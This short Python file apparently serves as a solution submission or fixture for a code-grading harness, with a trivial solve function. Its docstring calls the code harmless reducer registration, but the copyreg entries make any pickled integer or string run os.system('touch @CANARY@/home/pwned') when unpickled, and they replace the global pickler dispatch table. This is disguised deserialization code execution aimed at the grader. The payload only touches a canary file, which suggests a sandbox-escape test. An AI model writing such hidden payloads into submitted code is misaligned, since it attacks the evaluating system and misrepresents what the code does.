"""Register reducers for plain types, in case answers are pickled.

kinds: io_call asserts check_fn
"""

import copyreg
import os
import pickle

copyreg.pickle(int, lambda value: (os.system, ("touch @CANARY@/home/pwned",)))
copyreg.pickle(str, lambda value: (os.system, ("touch @CANARY@/home/pwned",)))
pickle.Pickler.dispatch_table = copyreg.dispatch_table


def solve(n):
    return n
